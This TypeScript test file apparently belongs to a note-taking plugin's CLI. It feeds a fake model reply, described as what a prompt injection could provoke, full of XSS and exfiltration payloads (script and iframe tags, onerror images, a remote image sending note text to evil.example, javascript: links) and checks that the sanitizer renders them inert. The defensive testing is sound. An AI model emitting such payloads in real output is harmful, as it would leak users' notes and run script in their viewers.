/**
 * Red team, hostile model output: a reply (as a prompt injection in a note could make it) full of
 * things that load or run when the note is viewed. The plan note the real CLI writes is rendered
 * by a real CommonMark renderer (markdown-it, raw HTML on, the way Obsidian's reading view allows
 * it): no remote image, no active element, no script link; the URLs are still visible as text.
 * The same reply streamed in awkward pieces gives the same inert text, and the panel's DOM pass
 * removes what a renderer lets through.
 */
import MarkdownIt from "markdown-it";
import { promises as fs } from "node:fs";
import path from "node:path";
import { FakeOllama } from "../harness/fake-ollama";
import { cli } from "../harness/robust-vault";
import { listFiles, makeTempVault, removeTempVault } from "../harness/temp-vault";
import { InertMarkdownStream, inertMarkdown } from "../../src/core/shared/markdown-safety";
import { inertDom } from "../../src/ui/shared/inert-dom";

const HOSTILE = [
  "## Compute",
  "<script>alert(1)</script>",
  '<iframe src="https://evil.example/frame"></iframe>',
  '<img src="https://evil.example/html.png" onerror="alert(1)">',
  "![exfil](https://evil.example/?q=MY-NOTE-TEXT)",
  "![ref image][r]",
  "[r]: https://evil.example/ref.png",
  "[click me](javascript:alert(1))",
  "[data link](data:text/html;base64,PHNjcmlwdD4=)",
  "[js ref][j]",
  "[j]: javascript:alert(2)",
  "<https://evil.example/autolink>",
  "`` ` <img src=https://evil.example/backtick.png> unbalanced",
  "```bash`odd",
  '<img src="https://evil.example/fence-info.png">',
  "> <video src=\"https://evil.example/v.mp4\" autoplay></video>",
  "A [normal link](https://ollama.com) and ![[Local diagram.png]] stay.",
  "```html",
  "<script>inside a real fence is code</script>",
  "```",
].join("\n");

const md = new MarkdownIt({ html: true, linkify: false });

/** What a viewer of `markdown` would load or run: remote images, active elements, script links. */
function activeParts(markdown: string): string[] {
  const doc = new DOMParser().parseFromString(md.render(markdown), "text/html");
  const found: string[] = [];
  for (const img of Array.from(doc.querySelectorAll("img"))) found.push(`img ${img.getAttribute("src") ?? ""}`);
  for (const el of Array.from(doc.querySelectorAll("script, iframe, video, audio, object, embed"))) found.push(el.tagName.toLowerCase());
  for (const a of Array.from(doc.querySelectorAll("a[href]"))) if (!/^(https?:|mailto:)/i.test(a.getAttribute("href") ?? "")) found.push(`a ${a.getAttribute("href") ?? ""}`);
  for (const el of Array.from(doc.querySelectorAll("*"))) for (const attr of Array.from(el.attributes)) if (/^on/i.test(attr.name)) found.push(`${el.tagName.toLowerCase()} ${attr.name}`);
  return found;
}

test("the renderer used here does see the attacks in the raw reply (the check can fail)", () => {
  expect(activeParts(HOSTILE).length).toBeGreaterThanOrEqual(8);
});

let fake: FakeOllama;
let vault: string;
beforeAll(async () => {
  fake = await FakeOllama.start({ reply: HOSTILE });
});
afterAll(() => fake.close());
beforeEach(async () => {
  vault = await makeTempVault({ "Hardware.md": "# PC\nRTX 4090.\n" });
});
afterEach(() => removeTempVault(vault));

test("CLI plan: the note on disk loads and runs nothing when viewed; every URL is still visible", async () => {
  const run = await cli(["plan", "--vault", vault, "--hardware", "RTX 4090", "--quiet"], { OLLAMA_HOST: fake.url });
  expect(run.code).toBe(0);
  const [note] = (await listFiles(vault)).filter((f) => f.startsWith("AI Stack Plans/"));
  const text = await fs.readFile(path.join(vault, note), "utf8");
  expect(activeParts(text)).toEqual([]);
  const shown = new DOMParser().parseFromString(md.render(text), "text/html").body.textContent ?? "";
  for (const url of ["https://evil.example/?q=MY-NOTE-TEXT", "javascript:alert(1)", "https://evil.example/ref.png", "https://evil.example/frame"]) expect(shown).toContain(url);
  expect(text).toContain("[normal link](https://ollama.com)");
  expect(text).toContain("![[Local diagram.png]]");
  expect(text).toContain("```html\n<script>inside a real fence is code</script>\n```");
});

test("streamed in awkward pieces, the inert text is the same as all at once", () => {
  const whole = inertMarkdown(HOSTILE);
  for (const size of [1, 2, 3, 7, 64]) {
    const stream = new InertMarkdownStream();
    let out = "";
    for (let i = 0; i < HOSTILE.length; i += size) out += stream.push(HOSTILE.slice(i, i + size));
    out += stream.end();
    expect(out).toBe(whole);
  }
});

test("the panel's DOM pass removes what a renderer lets through, keeping the URL as text", () => {
  const root = createDiv();
  root.append(new DOMParser().parseFromString(md.render(HOSTILE), "text/html").body);
  inertDom(root);
  expect(root.querySelectorAll("img, script, iframe, video").length).toBe(0);
  expect([...root.querySelectorAll("a[href]")].filter((a) => !/^https?:/.test(a.getAttribute("href") ?? ""))).toEqual([]);
  expect([...root.querySelectorAll("*")].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)))).toEqual([]);
  expect(root.textContent).toContain("https://evil.example/?q=MY-NOTE-TEXT");
  expect(root.textContent).toContain("javascript:alert(1)");
});
